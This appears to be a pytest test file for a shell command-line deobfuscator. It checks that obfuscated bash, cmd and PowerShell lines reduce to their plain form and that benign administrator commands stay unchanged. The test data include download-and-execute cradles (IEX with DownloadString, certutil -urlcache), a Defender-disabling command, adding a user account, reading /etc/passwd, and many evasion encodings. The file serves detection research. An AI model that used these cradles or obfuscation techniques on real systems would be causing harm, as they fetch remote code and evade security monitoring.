"""The shell-aware normaliser: hand-written examples of each technique family, every engine technique's outputs
normalised back to the seed's normal form (a table of what is and is not inverted is printed with ``-s``), benign
lines left alone, and bounded time on adversarial input."""

from __future__ import annotations

import base64
import gzip
import re
import time

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.normalize import guess_shell, normalize, same
from sectune.tasks.cmdline.obfuscate import INTENSITIES, obfuscate, techniques

SEEDS = {
    "bash": ["echo hello world", "cat /etc/passwd | grep root", "ls -la /tmp", "id", "uname -a"],
    "cmd": [
        "net user",
        "whoami /all",
        "net user admin P@ss1 /add",
        "certutil -urlcache -split -f http://example.com/a.txt a.txt",
        "ping -n 1 127.0.0.1",
        "netstat -ano | findstr LISTENING",
        "tasklist /v && ipconfig /all",
    ],
    "powershell": [
        "Write-Host hello",
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
        "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x.ps1')",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Get-ChildItem C:\\Users | Where-Object { $_.Name -like 'a*' }",
    ],
}
# Techniques whose every output (on SEEDS, each intensity, two random seeds) normalises to the seed's normal form.
INVERTED = {
    *(
        f"bash/{n}"
        for n in "base64 gzip-base64 bzip2-base64 hex octal ansi-c-hex printf rot13 quotes backslash null-expansion "
        "ifs brace glob variables rev case base32 slice".split()
    ),
    *(
        f"cmd/{n}"
        for n in "caret quotes arg-insertion random-case separators env-substring set-concat delayed for-loop "
        "reverse substitution char-insertion path-transform url-transform".split()
    ),
    *(
        f"powershell/{n}"
        for n in "encoded-command deflate char-codes concat format join reverse replace backtick random-case "
        "aliases bxor wildcard layer0 comments".split()
    ),
}


def _enc(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("line", "shell", "normal", "step"),
    [
        # cmd
        ("n^e^t us^er", "cmd", "net user", "caret inside n^e^t removed -> net"),
        ('n"e"t user', "cmd", "net user", "quotes inside a word removed"),
        (",;net user", "cmd", "net user", "leading , ; delimiters removed"),
        ("rmdir /^s /q C:\\old", "cmd", "rmdir /s /q C:\\old", "caret inside /^s removed -> /s"),  # in an option
        ("%COMSPEC:~-7,1%md /c whoami", "cmd", "whoami", "%COMSPEC:~-7,1% expanded"),
        ('cmd /c "set a=ne&& set b=t&& call %a%%b% user"', "cmd", "net user", "call re-expanded"),
        ('cmd /v:on /c "set x=net&&!x! user"', "cmd", "net user", "delayed !x! expanded"),
        (
            'cmd /V:ON /C"set r=resu ten&&for /L %i in (7,-1,0) do set o=!o!!r:~%i,1!&&if %i==0 call %o%"',
            "cmd",
            "net user",
            "for loop unrolled",
        ),
        ("NeT UsEr", "cmd", "net UsEr", ""),
        ("whoami \u2013all", "cmd", "whoami -all", "Unicode dash -> -"),
        ("type C:\\Windows\\.\\win.ini", "cmd", "type C:\\Windows\\win.ini", "path . segment removed"),
        ("type C:\\Win^dows\\Temp\\..\\win.ini", "cmd", "type C:\\Windows\\win.ini", "path detour x\\.. removed"),
        ("C:/Windows/System32/whoami.exe /all", "cmd", "c:\\windows\\system32\\whoami /all", "path / separators"),
        (
            "certutil -urlcache -f http:\\\\0xc0a80105/a.exe a.exe",
            "cmd",
            "certutil -urlcache -f http://192.168.1.5/a.exe a.exe",
            "URL host 0xc0a80105 -> 192.168.1.5",
        ),
        # PowerShell
        ("Ne`w-Ob`ject Net.WebClient", "powershell", "new-object net.webclient", "backticks removed"),
        ("gci -Force", "powershell", "get-childitem -force", "alias gci -> get-childitem"),
        ("powershell -e " + _enc("whoami"), "powershell", "whoami", "-e payload decoded (UTF-16LE base64)"),
        ("powershell -EncodedCommand " + _enc("whoami"), "powershell", "whoami", "-EncodedCommand payload decoded"),
        ("pwsh /enc " + _enc("Get-Process"), "powershell", "get-process", "/enc payload decoded"),
        ("&('Wr'+'ite-Host') hi", "powershell", "write-host hi", "string expression folded"),
        ("&(\"{1}{0}\" -f 'ost','Write-H') hi", "powershell", "write-host hi", "string expression folded"),
        ("&([char]73+[char]69+'X') 'whoami'", "powershell", "whoami", "string expression folded"),
        ("iex (-join('imaohw'[-1..-6]))", "powershell", "whoami", "string expression folded"),
        ("iex ('wh#oa#mi' -replace '#','')", "powershell", "whoami", "string expression folded"),
        # PowerShell parts built in place (Invoke-PSObfuscation's "layer 0"), commands found by lookup (CradleCrafter)
        (
            "& ((\"Wxq-ohmabi\")[0,5,4,7,6,9] -join '') /all",
            "powershell",
            "whoami /all",
            "string expression folded (command name)",
        ),
        (
            "& ([string]::join('', ( (119,104,111,97,109,105) |%{ ( [char][int] $_)}))) /all",
            "powershell",
            "whoami /all",
            "string expression folded (command name)",
        ),
        (
            "Write-Output $([char](0+84-0)+[char](5*114/5)+[char](17+117-17)+[char](0+101-0))",
            "powershell",
            "write-output 'True'",
            "string expression folded (subexpression)",
        ),
        ("Start-Sleep -Seconds $(0-80+80+85)", "powershell", "start-sleep -seconds 85", "string expression folded"),
        ("Get-Process <##>|%{;$_}<#x1#>| Stop-Process", "powershell", "get-process | stop-process", "inline <# #>"),
        ("Get-Process |%{$_;}| Stop-Process", "powershell", "get-process | stop-process", "no-op pipeline stage"),
        ("&(gcm I*e-W*t) -Uri http://x", "powershell", "invoke-webrequest -uri http://x", "glob I*e-W*t ->"),
        (".(Get-Command *w-O*) Net.WebClient", "powershell", "new-object net.webclient", "glob *w-O* ->"),
        ("$x|&(gal i?x)", "powershell", "$x|invoke-expression", "glob i?x -> iex"),
        (
            "& $ExecutionContext.InvokeCommand.GetCommand('Invoke-WebRequest','Cmdlet') http://x",
            "powershell",
            "& invoke-webrequest http://x",
            "command looked up by name",
        ),
        (
            "(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x')|iex",
            "powershell",
            "(new-object net.webclient).downloadstring('http://x')|invoke-expression",
            "string expression folded (member name)",
        ),
        ("$wc.\"DoWnLoAdStRiNg\"('http://x')", "powershell", "$wc.downloadstring('http://x')", "string expression"),
        ("$wc.\"Downl`oadString\"('http://x')", "powershell", "$wc.downloadstring('http://x')", "string expression"),
        ("start powershell -c \"iex ('who'+'ami')\"", "cmd", "start powershell -c whoami", "string expression folded"),
        (r'powershell -c "& (\"who\"+\"ami\") /all"', "cmd", "powershell -c whoami /all", "string expression"),
        ("[ScriptBlock]::Create('whoami /all').Invoke()", "powershell", "whoami /all", "script block unwrapped"),
        ("$ExecutionContext.InvokeCommand.InvokeScript('whoami')", "powershell", "whoami", "script block unwrapped"),
        ("icm ([scriptblock]::Create('net user'))", "powershell", "net user", "script block unwrapped"),
        ("&($pshome[4]+$pshome[30]+'x') 'whoami'", "powershell", "whoami", "string expression folded"),
        ("$a='Get-';$b='Process';& ($a+$b) lsass", "powershell", "$a='Get-';$b='Process';get-process lsass", "string"),
        ("$x='who'+'ami';&$x /all", "powershell", "$x='who'+'ami';whoami /all", "string expression folded"),
        # the command a launcher passes is read on its own; variables cmd set reach PowerShell as $env:
        ("powershell -nop -c \"iex ('who'+'ami')\"", "cmd", "powershell -nop -c whoami", "string expression folded"),
        ('cmd /c "set AB=Get-Process&&powershell IEX $env:AB"', "cmd", "powershell get-process", "$env:AB expanded"),
        # bash
        ("c''at /e\\tc/pa\"ss\"wd", "bash", "cat /etc/passwd", "quotes inside a word removed"),
        ("$'\\x63\\x61\\x74' /etc/passwd", "bash", "cat /etc/passwd", "$'..' ANSI-C escapes decoded"),
        ("$(printf '\\143at') /etc/passwd", "bash", "cat /etc/passwd", "command substitution computed"),
        ("cat${IFS}/etc/passwd", "bash", "cat /etc/passwd", "${IFS} -> space"),
        ("c$@at /etc/pa${*,,}sswd", "bash", "cat /etc/passwd", "null expansion $@/$* removed"),
        ("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash", "bash", "cat /etc/passwd", "base64 payload decoded"),
        ("echo 636174202f6574632f706173737764|xxd -r -p|sh", "bash", "cat /etc/passwd", "hex payload decoded"),
        ("$(rev<<<tac) /etc/passwd", "bash", "cat /etc/passwd", "reversed text restored"),
        ("a=ca;b=t;$a$b /etc/passwd", "bash", "cat /etc/passwd", "variable substituted"),
        ("{cat,/etc/passwd}", "bash", "cat /etc/passwd", "brace word split"),
        ("/?in/c?t /etc/passwd", "bash", "cat /etc/passwd", "glob /?in/c?t -> /bin/cat"),
        ("eval \"$(tr a-z n-za-m<<<'png /rgp/cnffjq')\"", "bash", "cat /etc/passwd", "tr translation applied (rot13)"),
        ("curl -O HTtp://0300.0250.01.05/x", "bash", "curl -O http://192.168.1.5/x", "URL host 0300.0250.01.05"),
        ("wget hTTp://ExAmple.COM/x", "bash", "wget http://example.com/x", "URL host scheme hTTp -> http"),
    ],
)
def test_hand_written_examples(line, shell, normal, step):
    n = normalize(line, shell)
    assert n.normal == normal, n
    assert not step or any(s.startswith(step) for s in n.steps), n.steps
    assert normalize(line).normal == normal or guess_shell(line) != shell


def test_a_caret_that_escapes_a_special_character_is_not_reported():
    for line in ("echo a ^& b", "echo 1 ^> nul", 'findstr /r "^error" log.txt', "echo ^^"):
        assert not any("caret" in s for s in normalize(line, "cmd").steps), line


def test_decoded_payloads_and_layers_are_reported():
    inner = "echo " + base64.b64encode(b"cat /etc/passwd").decode() + " | base64 -d | bash"
    outer = "echo " + base64.b64encode(inner.encode()).decode() + " | base64 -d | bash"
    n = normalize(outer)
    assert n.normal == "cat /etc/passwd" and n.payloads[-1].strip() == "cat /etc/passwd" and n.layers >= 2
    n = normalize("cmd /c powershell -enc " + _enc("Get-Process"))
    assert n.normal == "get-process" and n.payloads == ["Get-Process"]


def test_shell_is_guessed_from_the_line():
    # a process command line that starts powershell is typed to cmd, whose normaliser hands the payload on
    assert guess_shell("powershell -nop -enc AAAA") == "cmd"
    assert normalize("powershell -nop -enc " + _enc("whoami")).normal == "whoami"
    assert guess_shell("IEX (New-Object Net.WebClient)") == "powershell"
    assert guess_shell("cmd /c whoami") == "cmd" and guess_shell("n^e^t user") == "cmd"
    assert guess_shell("cat /etc/passwd | grep root") == "bash"
    with pytest.raises(SectuneError, match="unknown shell"):
        normalize("x", "fish")


def _outputs(name: str, shell: str):
    for seed in SEEDS[shell]:
        for intensity in INTENSITIES:
            for r in (1, 2):
                try:
                    yield seed, obfuscate(seed, shell, [name], intensity, rng=r).text
                except SectuneError:
                    pass


def test_every_engine_technique_is_inverted_or_reported(capsys):
    """Each registered technique: the share of outputs normalised to the seed's normal form, and the share where
    at least the seed's command name shows in the normal form. Techniques in INVERTED must invert every output;
    the others (new ones included) are reported, never a failure."""
    report, failures = [], []
    for technique in techniques():
        cases = list(_outputs(technique.name, technique.shell))
        if not cases:
            continue
        inverted = exposed = 0
        for seed, text in cases:
            n, want = normalize(text, technique.shell), normalize(seed, technique.shell)
            inverted += same(n.normal, want.normal)
            exposed += want.normal.split()[0].lower() in n.normal.lower()
            if technique.name in INVERTED and not same(n.normal, want.normal):
                failures.append(f"{technique.name}: {text!r} -> {n.normal!r}, want {want.normal!r}")
        report.append(
            f"{technique.name:28s} inverted {inverted / len(cases):4.0%}  command exposed {exposed / len(cases):4.0%}"
        )
    with capsys.disabled():
        print("\n" + "\n".join(report))
    assert not failures, "\n".join(failures[:10])


@pytest.mark.parametrize(
    ("line", "shell"),
    [
        ("net user", "cmd"),
        ("ipconfig /all", "cmd"),
        ("dir C:\\Windows\\System32", "cmd"),
        ("cd ..\\build & dir C:\\Users\\Public\\Downloads", "cmd"),
        ("dir C:\\PROGRA~2\\COMMON~1 /b", "cmd"),  # 8.3 names: installers and old scripts write them
        ("curl -s http://10.0.0.5:8080/health", "bash"),
        (".\\build.ps1 -Configuration Release", "powershell"),
        ("netstat -ano | findstr LISTENING", "cmd"),
        ("Get-ChildItem -Path C:\\Users -Recurse | Select-Object Name", "powershell"),
        ("Write-Output 'Hello World'", "powershell"),
        ("ls -la /tmp", "bash"),
        ("grep -rn TODO src | sort | uniq -c", "bash"),
        ("tar -czf backup.tar.gz /var/www", "bash"),
    ],
)
def test_benign_lines_normalise_to_themselves(line, shell):
    n = normalize(line, shell)
    assert same(n.normal, line), n
    assert normalize(line).shell == shell


@pytest.mark.parametrize(
    "line",
    [
        'for %f in (*.ps1) do move "%f" C:\\Logs',  # a file set is known only when the loop runs
        "set PATH=%PATH%;C:\\Tools\\bin & gpresult /scope user /v",  # a setting, used by no command of the line
        "dotnet build & set JAVA_HOME=C:\\Java\\jdk-17",
    ],
)
def test_cmd_loops_over_files_and_plain_settings_are_not_reported_as_unrolled_or_hidden(line):
    n = normalize(line, "cmd")
    assert not n.steps and sorted(n.normal.lower().replace('"', "").split()) == sorted(
        line.lower().replace('"', "").split()
    ), n
    assert normalize("set a=who&&set b=ami&&call %a%%b%", "cmd").steps[0] == "set variable"


@pytest.mark.parametrize(
    ("line", "shell"),
    [
        ('ssh -o ControlPath="$SOCK" -MNf "$@"', "bash"),  # "$@" passes the arguments on: not slipped into a word
        ('diff "${@:3}" <(sort "$1")', "bash"),
        ('echo "$IFS"', "bash"),
        ('for /l %i in (1,1,254) do ping -n 1 10.0.0.%i | find "TTL="', "cmd"),  # builds no command
        ('find . \u2013name "*.txt"', "bash"),  # a dash pasted from a web page: bash does not read it as -
        ('Write-Host "done \u2014 all good"', "powershell"),
        ("powershell -NoProfile -File .\\Deploy.ps1", "cmd"),
        ("icacls C:\\Temp /grant .\\kiosk:(OI)(CI)M", "cmd"),  # .\\ names a local account
        ('reg add HKCU\\Control /v Path /d "%SystemRoot%\\System32\\x.scr" /f', "cmd"),  # a path as written
        ('rar a -hp"blue" backup.rar', "bash"),  # an option's quoted value
        ("ECHO Let's open the console now", "bash"),
        ('$excelApp.RegisterXLL("C:\\Tools\\addin.xll")', "powershell"),
        ("call C:\\Scripts\\env.cmd && gpupdate /force", "cmd"),  # a batch file called: what call is for
        ("\\cp -f app.conf /etc/app/", "bash"),  # one backslash before the name skips its alias (cp -i)
        # FOR /F over a command's output: the caret before | is required there
        ("for /f \"tokens=2 delims=,\" %i in ('tasklist /fo csv /nh ^| findstr /i notepad') do @echo %~i", "cmd"),
        ("for /r C:\\Logs %f in (*.log) do del %f", "cmd"),
        ("mv $1 `echo $1 | tr '[:upper:]' '[:lower:]'`", "bash"),  # tr of a script argument: nothing decoded
        ("column <<< \"$(printf '%s\\n' $module)\"", "bash"),
        # PowerShell: an exact lookup, a listing by wildcard, a computed value that is not static, a script block
        ("& (Get-Command python).Source --version", "powershell"),
        ("Get-Command *-AD* | Measure-Object", "powershell"),
        ('Write-Host "Build $(Get-Date -Format yyyyMMdd)" $(Get-Date)', "powershell"),
        ("$sum = 0; 1..10 | ForEach-Object { $sum += $_ }; $sum", "powershell"),
        ("[ScriptBlock]::Create($code) | Out-Null", "powershell"),
        ("$exe = 'C:\\Tools\\setup.exe'; & $exe /S", "powershell"),
        ("set PATH=C:\\Tools;%PATH% && powershell -NoProfile -File x.ps1", "cmd"),
        (
            "powershell -ExecutionPolicy Bypass -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'}\"",
            "cmd",
        ),  # a literal in a variable: how scripts call
        ("Invoke-Command -ComputerName srv01 -ScriptBlock { Get-Service W32Time }", "powershell"),
    ],
)
def test_what_scripts_and_administrators_write_is_not_reported(line, shell):
    n = normalize(line)
    assert n.shell == shell and not n.steps, n
    assert normalize("c$@at x", "bash").steps and normalize('c"$@"at x', "bash").normal == "cat x"
    assert normalize("for %a in (who) do %aami", "cmd").normal == "whoami"
    assert normalize("%COMSPEC% /c whoami", "cmd").steps == ["%COMSPEC% expanded"]
    assert normalize("c\\p -f app.conf /etc/app/", "bash").steps == ["backslash escape removed"]


def test_what_runs_inside_a_substitution_is_normalised_even_when_its_output_is_not_static():
    """bashsmash's printf is a glob inside $( ) whose output only the running shell knows: the glob is the shell's
    to resolve all the same; a decoder fed a value known only at run time decodes nothing."""
    n = normalize('x() { :; }; $(/???/??n/???n?f "%s" "$(x)"; id)', "bash")
    assert "glob /???/??n/???n?f -> /usr/bin/printf" in n.steps and n.normal.endswith("$(printf %s $(x) ; id)"), n
    assert normalize("echo $(c\\at /etc/passwd)", "bash").normal == "echo $(cat /etc/passwd)"
    assert normalize("echo $1 | base64 -d | bash", "bash").steps == []


def test_for_f_that_runs_what_a_command_printed_is_reported():
    """DOSfuscation's FOR /F: the command is cut out of another command's output, known only when it runs."""
    n = normalize("FOR /F \"delims=il tokens=+4\" %Z IN ('assoc .cdx') DO %Z", "cmd")
    assert n.steps == ["for loop runs what a command or file gives"], n


def _cosmetic(text: str) -> str:
    return re.sub(r"""[\s"'&;]|\.exe\b""", "", text.lower())


def test_benign_template_lines_mostly_stay_themselves(capsys):
    """Generated benign lines change only cosmetically (quotes the shell strips, case, separators) in most cases;
    the rest are legitimate rewrites (aliases, ``cmd /c`` unwrapped, variables assigned on the line)."""
    from sectune.tasks.cmdline.dataset import build_cmdline_dataset

    records = [r for r in build_cmdline_dataset(n=600, seed=3, progress=False).records if r["label"] == 0]
    kept = sum(_cosmetic(normalize(r["text"], r["shell"]).normal) == _cosmetic(r["text"]) for r in records)
    with capsys.disabled():
        print(f"\nbenign template lines unchanged but for cosmetics: {kept}/{len(records)}")
    assert kept >= 0.8 * len(records)


@pytest.mark.parametrize(
    "line",
    [
        'cmd /c "' * 300 + "whoami",
        "call " * 5000 + "whoami",
        'cmd /v:on /c "for /l %i in (1,1,999999999) do echo %i"',
        "echo " + "QUFB" * 30000 + " | base64 -d | bash",
        "iex " + "(" * 3000 + "'a'" + ")" * 3000,
        "iex (-join('a'[1..99999999]))",
        "iex (" + "+".join(["'a'"] * 5000) + ")",
        "$(" * 2000 + "echo hi" + ")" * 2000,
        "a^" * 50000,
        "powershell -enc " + "QQBBAA" * 20000,
        "echo " + base64.b64encode(gzip.compress(b"A" * 20_000_000)).decode() + " | base64 -d | gunzip | bash",
        "x" * 200_000,
    ],
)
def test_bounded_time_on_adversarial_input(line):
    start = time.perf_counter()
    n = normalize(line)
    assert time.perf_counter() - start < 2.0  # generous for a shared machine; typically well under 0.3 s
    assert isinstance(n.normal, str) and len(n.normal) <= 200_000


def test_nested_encodings_stop_at_the_depth_bound():
    line = "whoami"
    for _ in range(12):
        line = "echo " + base64.b64encode(line.encode()).decode() + " | base64 -d | bash"
    n = normalize(line)
    assert n.truncated in ("depth", "size", "steps") or n.normal == "whoami"


@pytest.mark.parametrize(
    ("line", "shell"),
    [
        ("spps -Name Teams -Force", "powershell"),
        ("gps -Name chrome", "powershell"),
        ("ls -la", "bash"),
        ("ps aux", "bash"),
    ],
)
def test_a_powershell_alias_with_powershell_parameters_is_powershell(line, shell):
    """``spps -Name Teams`` has no other PowerShell marker; read as bash, its alias was never mapped back."""
    from sectune.tasks.cmdline.normalize import guess_shell

    assert guess_shell(line) == shell


@pytest.mark.parametrize(
    ("line", "shell"),
    [
        ("$'\\x64'nf search net-tools", "bash"),  # net-tools is no cmd `net`
        ("$(rev<<<duolcg) container clusters get-credentials prod", "bash"),  # get-credentials is no cmdlet
        ("sudo timedatectl set-timezone Asia/Tokyo", "bash"),
        ("pkill -f 'manage.py'", "bash"),  # -f is no format operator
        ("rq=SUDO;${rq,,} timedatectl set-timezone UTC", "bash"),
        ("reStArt-serVice -Name wuauserv -Force", "powershell"),  # a cmdlet in random case
        ("Wr`ite-Ho`st hello", "powershell"),
        ("Copy-Item C:\\Windows\\x.log -Destination C:\\Temp", "powershell"),
        ("Restart-NetAdapter -Name 'Ethernet'", "powershell"),
        ("gcloud compute instances create w --metadata=enable-oslogin=TRUE", "bash"),
        ('runas /netonly /user:CORP\\priya.n "mmc dsa.msc"', "cmd"),
        ('for %f in (*.docx) do move "%f" \\\\FILESRV02\\Shares', "cmd"),
        (';;,""ping /""n 10 192.168.4.107', "cmd"),
        ('^wm""ic process get name', "cmd"),
        ("rou%OS:~-1,1%e print", "cmd"),  # a two-letter variable's substring
    ],
)
def test_shell_guess_reads_obfuscated_and_lookalike_lines(line, shell):
    """A wrong guess leaves an obfuscated line undone, or makes a benign one look changed."""
    assert guess_shell(line) == shell


def test_a_brace_word_after_a_keyword_is_the_command():
    """``do {echo,x}`` and ``if {[,-f,x,]}``: brace expansion runs the first word after the keyword."""
    assert normalize("while {true,}; do date; done", "bash").normal == "while true ; do date ; done"
    assert normalize("if {[,-f,/etc/hosts,]}; then id; fi", "bash").normal == "if [ -f /etc/hosts ] ; then id ; fi"
    assert normalize("if [ -f x ]; then echo {a,b}; fi", "bash").steps == []  # an argument's braces stay
